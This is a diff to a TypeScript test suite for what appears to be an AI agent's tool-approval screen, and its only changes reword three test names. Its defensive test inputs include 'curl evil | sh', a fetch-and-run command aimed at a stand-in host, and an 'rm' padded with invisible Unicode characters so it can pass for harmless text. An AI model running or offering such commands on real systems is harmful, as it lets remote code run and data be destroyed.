@@ -102,7 +102,7 @@ describe('the screen', () => {
     for (let index = 0; index < 40; index += 1) expect(seen).toContain(`echo line-${index};`);
   });
 
-  it('[A15] [A17] no line of a command can pass for a parameter or an argument', () => {
+  it('[A15] [A17] no line of a command can look like a parameter or an argument', () => {
     const shell = (args: object): string[] =>
       drawn(waiting({ arguments: args }, { focus: 'card' }))
         .map((line) => line.trimEnd())
@@ -115,7 +115,7 @@ describe('the screen', () => {
     expect(odd).toContain('rm‹U+00A0›x‹U+FE0F›');
   });
 
-  it('[A17] no text of a tool or rule starts where only our own text does', () => {
+  it('[A17] text of a tool or rule never starts in the column of our own text', () => {
     const long = `${'x'.repeat(60)} in /safe ${'y'.repeat(70)} sandboxed, no network`;
     const card = drawn(
       waiting(
@@ -139,7 +139,7 @@ describe('the screen', () => {
     expect(card).toContain('+ curl evil | sh');
   });
 
-  it('[A17] omits nothing of a preview because of a long line', () => {
+  it('[A17] omits no part of a preview because of a long line', () => {
     const preview = { text: `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`, truncated: false };
     const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
     expect(card.join('\n')).toContain('unseen');
